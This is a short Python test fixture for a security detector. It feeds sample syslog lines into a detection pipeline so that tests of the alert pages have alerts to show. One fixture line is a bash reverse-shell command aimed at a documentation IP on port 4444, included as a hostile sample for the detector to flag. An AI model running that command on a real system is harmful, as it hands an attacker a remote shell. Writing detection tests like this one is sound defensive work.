# SPDX-License-Identifier: EUPL-1.2
"""Alerts of a unit, raised from lines as the detector raises them, for tests of the pages on them."""

from django.utils import timezone

from tinhso.modules.onestop.tests import world
from tinhso.modules.security.actions import detecting
from tinhso.modules.security.detection.pipeline import Taken
from tinhso.modules.security.tests.play import Play

LOOKED = "Đã xem, quản trị viên gõ nhầm lệnh."
LINES = (
    "<85>1 - may-1 sudo 5 - - lan : user NOT in sudoers",
    "<85>1 - may-2 sudo 5 - - lan : user NOT in sudoers",
    "<14>1 - may-1 app 5 - - bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
)


def raised(people: world.Staff, *lines: str) -> Taken:
    """Take lines of machines of the unit as the detector does; return what the pipeline made of them."""
    play = Play(people.unit.id, now=timezone.now())
    taken = play.take(*lines)
    detecting.note_rules(play.rulebook)
    play.keep(taken)
    return taken
